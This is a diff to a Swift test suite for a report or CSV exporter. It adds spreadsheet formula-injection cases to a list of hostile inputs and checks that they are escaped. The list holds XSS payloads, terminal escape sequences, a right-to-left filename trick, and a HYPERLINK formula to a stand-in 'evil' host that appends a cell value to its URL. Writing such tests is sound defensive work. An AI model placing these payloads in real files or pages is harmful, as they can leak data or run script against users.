@@ -9,7 +9,8 @@ import Testing
 @Suite struct ReportTests {
   static let hostile = [
     "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; --", "&lt;b&gt;", "`${x}`", "a\tb\r\nc",
-    "\u{1B}]0;title\u{7}\u{9B}31m", "\u{202E}gpj.exe\u{2066}", "=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)",
+    "\u{1B}]0;title\u{7}\u{9B}31m", "\u{202E}gpj.exe\u{2066}", "=HYPERLINK(\"http://x\")", "A;=HYPERLINK(\"http://x\")",
+    "A, +1+2", "+1+1", "-2+3", "@SUM(A1)",
     "  =1+1", "|calc", "产品名称很长很长", "e\u{301}\u{301}\u{301}", "👩‍👩‍👧‍👦 family", "a,b;c\"d", "</style></title>",
     "=\u{308}HYPERLINK(\"http://evil/\"&A1,\"click\")", "\u{2212}1", "\u{FE66}SUM(A1)", "\u{A0}=1", "\"\u{301}=1",
   ]
@@ -71,6 +72,7 @@ import Testing
     }
     #expect(rows.contains { $0[2] == "'=HYPERLINK(\"http://x\")" })
     #expect(rows.contains { $0[2] == "a,b;c\"d" })
+    #expect(rows.contains { $0[2] == "A;'=HYPERLINK(\"http://x\")" } && rows.contains { $0[2] == "A, '+1+2" })
   }
 
   /// Reads CSV as RFC 4180 describes it.
